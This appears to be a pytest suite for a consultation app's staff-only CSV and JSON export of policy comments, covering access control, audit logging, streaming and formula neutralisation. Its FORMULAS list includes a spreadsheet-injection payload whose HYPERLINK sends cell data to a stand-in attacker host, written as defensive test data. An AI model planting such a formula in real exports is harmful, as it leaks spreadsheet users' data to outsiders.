"""Staff exports of a policy's comments (CSV and JSON): every column for visible, hidden,
deleted, replied and dispositioned comments; formulas neutralised; only staff download;
the body is streamed and read in batches."""

import csv
import io
import json
import tracemalloc

import pytest
import sqlalchemy as sa

from consult.comments.export import COLUMNS, columns_for, export_rows
from consult.comments.models import Comment
from consult.comments.services import Draft, post_comment
from consult.extensions import db
from consult.policies.services import set_heading_numbers
from tests.comment_factories import clause_of
from tests.comments.conftest import NOTE
from tests.comments.test_queries import add_comments
from tests.policies.test_heading_numbers import NUMBERED

CSV_PATH = "/policies/guidelines/comments/export.csv"
JSON_PATH = "/policies/guidelines/comments/export.json"


def expected_rows(discussion) -> list[dict]:
    comments, (answered, reply, hidden, deleted) = discussion
    base = {"revision": 1, "clause_key": "purpose", "clause_number": "1", "edited": None}

    def created(comment_id):
        return comments[comment_id].created_at.isoformat()

    return [
        {
            **base,
            "id": answered,
            "parent_id": None,
            "language": "en",
            "author": "Val Volunteer",
            "created": created(answered),
            "status": "visible",
            "body": "Name *caste*.",
            "disposition": "accepted",
            "duplicate_of": None,
            "response": "We *agree*.",
            "endorsements": 1,
            "suggested_wording": "Add it.",
            "flags": 1,
            "similar_group": None,
            "assignee": "Sam Staff",
            "internal_note": NOTE,
        },
        {
            **base,
            "id": reply,
            "parent_id": answered,
            "language": "en",
            "author": "Sam Staff",
            "created": created(reply),
            "status": "visible",
            "body": "Thanks, we will.",
            "disposition": "open",
            "duplicate_of": None,
            "response": None,
            "endorsements": 0,
            "suggested_wording": None,
            "flags": 0,
            "similar_group": None,
            "assignee": None,
            "internal_note": None,
        },
        {
            **base,
            "id": hidden,
            "parent_id": None,
            "language": "fr",
            "author": "Olga Other",
            "created": created(hidden),
            "status": "hidden",
            "body": "Rude words.",
            "disposition": "open",
            "duplicate_of": None,
            "response": None,
            "endorsements": 0,
            "suggested_wording": None,
            "flags": 0,
            "similar_group": None,
            "assignee": None,
            "internal_note": None,
        },
        {
            **base,
            "id": deleted,
            "parent_id": None,
            "language": "en",
            "author": "Olga Other",
            "created": created(deleted),
            "status": "deleted",
            "body": "",
            "disposition": "duplicate",
            "duplicate_of": answered,
            "response": None,
            "endorsements": 0,
            "suggested_wording": None,
            "flags": 0,
            "similar_group": None,
            "assignee": None,
            "internal_note": None,
        },
    ]


def as_csv_cells(row: dict) -> dict:
    return {name: "" if value is None else str(value) for name, value in row.items()}


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_every_column_of_the_csv(client, auth, discussion):
    auth.login("staff")
    response = client.get(CSV_PATH)
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="guidelines-comments-')
    assert disposition.endswith('.csv"')
    text = response.get_data(as_text=True)
    assert not text.startswith("\ufeff")
    assert text.splitlines()[0] == ",".join(column.name for column in COLUMNS)
    assert csv_rows(response) == [as_csv_cells(row) for row in expected_rows(discussion)]


def test_every_column_of_the_json(client, auth, discussion):
    auth.login("staff")
    response = client.get(JSON_PATH)
    assert response.status_code == 200 and response.mimetype == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].endswith('.json"')
    document = json.loads(response.get_data(as_text=True))
    assert document["policy"] == "guidelines" and document["revision"] is None
    assert document["columns"] == [column.name for column in COLUMNS]
    assert document["comments"] == expected_rows(discussion)


def test_the_author_stays_the_same_after_the_account_goes(client, auth, discussion):
    comments, (answered, *_rest) = discussion
    db.session.execute(sa.update(Comment).where(Comment.id == answered).values(author_id=None))
    db.session.commit()
    auth.login("staff")
    rows = json.loads(client.get(JSON_PATH).get_data(as_text=True))["comments"]
    assert rows[0]["id"] == answered and rows[0]["author"] is None


def test_staff_only_columns_are_left_out_for_anyone_else():
    names = [column.name for column in columns_for(staff=False)]
    assert "internal_note" not in names and "assignee" not in names
    assert [column.name for column in columns_for(staff=True)] == [c.name for c in COLUMNS]


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage",
    "=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_neutralised_in_the_csv(
    client, auth, commentable, volunteer, create_comment, formula
):
    comment = create_comment(volunteer, commentable, "Harmless.")
    # Written directly: posting strips a leading tab or line break, a restored backup need not.
    values = {"body": formula, "suggested_wording": formula, "response": formula}
    db.session.execute(sa.update(Comment).where(Comment.id == comment.id).values(**values))
    db.session.commit()
    auth.login("staff")
    (row,) = csv_rows(client.get(CSV_PATH))
    assert row["body"] == row["suggested_wording"] == row["response"] == "'" + formula
    # JSON is data, not a spreadsheet: the text is exactly as written.
    (item,) = json.loads(client.get(JSON_PATH).get_data(as_text=True))["comments"]
    assert item["body"] == item["suggested_wording"] == item["response"] == formula


def test_a_harmless_text_is_left_alone(client, auth, commentable, volunteer, create_comment):
    create_comment(volunteer, commentable, "1 = 1, and -1 is fine mid-text")
    auth.login("staff")
    (row,) = csv_rows(client.get(CSV_PATH))
    assert row["body"] == "1 = 1, and -1 is fine mid-text"


def test_bom_on_request(client, auth, discussion):
    auth.login("staff")
    data = client.get(CSV_PATH + "?bom=1").get_data()
    assert data.startswith(b"\xef\xbb\xbfid,revision,")
    assert client.get(CSV_PATH + "?bom=0").get_data().startswith(b"id,")


def test_one_revision_only(client, auth, discussion, create_revision, volunteer, create_comment):
    comments, ids = discussion
    second = create_revision(comments[ids[0]].revision.policy, summary="Second")
    later = create_comment(volunteer, second, "On the second revision.")
    auth.login("staff")
    rows = csv_rows(client.get(CSV_PATH + "?revision=2"))
    assert [(row["id"], row["revision"]) for row in rows] == [(str(later.id), "2")]
    document = json.loads(client.get(JSON_PATH + "?revision=1").get_data(as_text=True))
    assert document["revision"] == 1
    assert [row["id"] for row in document["comments"]] == list(ids)
    assert len(csv_rows(client.get(CSV_PATH))) == len(ids) + 1
    with client.get(CSV_PATH + "?revision=2") as response:
        assert "-revision-2-" in response.headers["Content-Disposition"]
    assert client.get(CSV_PATH + "?revision=9").status_code == 404
    assert client.get(JSON_PATH + "?revision=x").status_code == 400
    assert client.get(JSON_PATH + "?revision=99999999999").status_code == 400


@pytest.mark.parametrize("path", [CSV_PATH, JSON_PATH])
@pytest.mark.parametrize("who", ["volunteer", "moderator", None])
def test_only_staff_export(client, auth, discussion, path, who):
    if who:
        auth.login(who)
    response = client.get(path)
    if who:
        assert response.status_code == 403
    else:
        assert response.status_code == 302 and "/login" in response.location
    assert NOTE not in response.get_data(as_text=True)


def test_exports_are_audited(client, auth, discussion):
    from consult.audit.models import AuditEvent

    auth.login("staff")
    client.get(CSV_PATH + "?revision=1").get_data()
    event = db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "comments.exported")
    ).one()
    assert event.details == {"format": "csv", "revision": 1}


def test_the_triage_page_links_the_exports(client, auth, discussion):
    auth.login("staff")
    page = client.get("/policies/guidelines/triage?revision=1").get_data(as_text=True)
    assert f'href="{CSV_PATH}"' in page and f'href="{JSON_PATH}"' in page
    assert f'href="{CSV_PATH}?revision=1"' in page


# --- Streaming and batches ------------------------------------------------------------------


@pytest.fixture
def authors(create_user):
    return [create_user(f"author{i}", display_name=f"Author {i}") for i in range(4)]


def export_queries(client, count_queries, path: str) -> tuple[int, int]:
    """(queries, rows) of one export, read to the end."""
    with count_queries() as queries:
        response = client.get(path)
        assert response.is_streamed
        body = response.get_data(as_text=True)
    rows = len(body.splitlines()) - 1 if path.endswith(".csv") else body.count('"id":')
    return len(queries), rows


@pytest.mark.parametrize("path", [CSV_PATH, JSON_PATH])
def test_the_export_streams_and_reads_in_batches(
    client, auth, count_queries, commentable, authors, staff, monkeypatch, path
):
    """One query per batch of comments, whatever is in the batch: it reads every column
    of its rows (the author, the flags and the staff record joined in)."""
    monkeypatch.setattr("consult.comments.export.BATCH", 100)
    auth.login("staff")
    add_comments(commentable, authors, 50)
    client.get(path).get_data()  # warm-up: one-time work (mapper configuration, caches)
    small, rows = export_queries(client, count_queries, path)
    assert rows == 50
    add_comments(commentable, authors, 940, start=50)
    large, rows = export_queries(client, count_queries, path)
    assert rows == 990
    assert large - small == 9  # ten batches instead of one
    assert small < 20


def test_the_rows_come_a_batch_at_a_time(commentable, authors):
    add_comments(commentable, authors, 250)
    batches = list(export_rows(commentable.policy_id, None, staff=True, size=100))
    assert [len(batch) for batch in batches] == [100, 100, 50]
    ids = [row.id for batch in batches for row in batch]
    assert ids == sorted(ids) and len(set(ids)) == 250


def test_clause_numbers_are_the_ones_shown(
    client, auth, create_policy, create_revision, open_window, volunteer, staff, create_comment
):
    """A heading that keeps its own number exports that number; else Consult's."""
    policy = create_policy()
    revision = create_revision(policy, NUMBERED)
    open_window(policy)
    for key in ("pledge", "1-correction"):
        create_comment(volunteer, clause_of(revision, key))
    auth.login("staff")

    def numbers() -> list[tuple[str, str]]:
        return [(r["clause_key"], r["clause_number"]) for r in csv_rows(client.get(CSV_PATH))]

    assert numbers() == [("pledge", "1"), ("1-correction", "1.")]
    set_heading_numbers(staff, policy, "consult")
    db.session.commit()
    assert numbers() == [("pledge", "1"), ("1-correction", "2.1")]


def streaming_peak(client, path: str) -> tuple[int, int]:
    """(bytes, peak memory) of one export, read chunk by chunk without keeping it."""
    tracemalloc.start()
    try:
        with client.get(path) as response:
            size = sum(len(chunk) for chunk in response.response)
        return size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("path", [CSV_PATH, JSON_PATH])
def test_five_times_the_comments_take_no_more_memory(client, auth, commentable, authors, path):
    """Both exports read several batches (a single batch never has the last chunk still
    being written while the next is read)."""
    auth.login("staff")
    add_comments(commentable, authors, 2000)
    client.get(path).get_data()  # warm-up: one-time work (mapper configuration, caches)
    small_size, small_peak = streaming_peak(client, path)
    add_comments(commentable, authors, 8000, start=2000)
    large_size, large_peak = streaming_peak(client, path)
    print(f"{path}: 2,000 comments peak {small_peak} B; 10,000 comments peak {large_peak} B")
    assert large_size > 4.5 * small_size
    assert large_peak < small_peak * 1.5


def test_copies_of_one_text_carry_their_similar_group(client, auth, commentable, create_user):
    campaign = (
        "Please keep the tool library free for every member of the community, "
        "because a deposit would shut out the families who need it most."
    )
    people = [create_user(f"signer{n}") for n in range(3)]
    copies = [post_comment(p, clause_of(commentable), Draft(campaign, "en", "")) for p in people]
    other = post_comment(
        people[0],
        clause_of(commentable),
        Draft("Something else entirely, about appeals.", "en", ""),
    )
    db.session.commit()
    auth.login("staff")
    groups = {int(row["id"]): row["similar_group"] for row in csv_rows(client.get(CSV_PATH))}
    first = str(min(copy.id for copy in copies))
    assert [groups[copy.id] for copy in copies] == [first] * 3
    assert groups[other.id] == ""
